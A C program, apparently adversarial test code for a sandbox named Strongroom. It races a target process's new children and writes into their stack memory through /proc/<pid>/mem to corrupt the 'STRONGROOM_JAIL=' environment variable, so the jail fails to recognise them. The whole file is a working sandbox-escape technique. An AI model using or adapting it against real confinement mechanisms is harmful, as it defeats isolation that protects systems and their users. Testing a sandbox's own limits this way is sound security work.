/*
 * What can't be stopped: between its exec and the jail's first call, a process is as open as any other of its user. This
 * looks for a new child of a process, again and again, and changes the variable by which the jail knows that it is one.
 * Arguments: LOOT, the process. Ends when it has won, or LOOT/go is there; 0 if it has won.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

/* The variables lie at the stack's upper end. */
static int change(int pid) {
  static char room[1 << 16];
  static const char name[] = "STRONGROOM_JAIL=";
  char path[64], line[512];
  unsigned long from, to = 0;
  snprintf(path, sizeof path, "/proc/%d/maps", pid);
  FILE *maps = fopen(path, "r");
  if (!maps) return 0;
  while (fgets(line, sizeof line, maps))
    if (strstr(line, "[stack]")) sscanf(line, "%lx-%lx", &from, &to);
  fclose(maps);
  if (to == 0) return 0;
  snprintf(path, sizeof path, "/proc/%d/mem", pid);
  int memory = open(path, O_RDWR | O_CLOEXEC);
  if (memory < 0) return 0;
  from = to - sizeof room > from ? to - sizeof room : from;
  ssize_t length = pread(memory, room, to - from, (off_t)from);
  char *at = length > 0 ? memmem(room, (size_t)length, name, sizeof name - 1) : NULL;
  int won = at && pwrite(memory, "X", 1, (off_t)(from + (unsigned long)(at - room))) == 1;
  close(memory);
  return won;
}

int main(int argc, char **argv) {
  if (argc < 3) return 2;
  char go[512], path[128], children[4096];
  snprintf(go, sizeof go, "%s/go", argv[1]);
  snprintf(path, sizeof path, "/proc/%s/task/%s/children", argv[2], argv[2]);
  for (unsigned round = 0; round % 256 != 0 || access(go, F_OK) != 0; round++) {
    int file = open(path, O_RDONLY | O_CLOEXEC);
    ssize_t length = file < 0 ? -1 : read(file, children, sizeof children - 1);
    if (file >= 0) close(file);
    if (length <= 0) continue;
    children[length] = 0;
    for (char *at = children, *end; strtol(at, &end, 10) > 0; at = end)
      if (change(atoi(at))) return 0;
  }
  return 1;
}
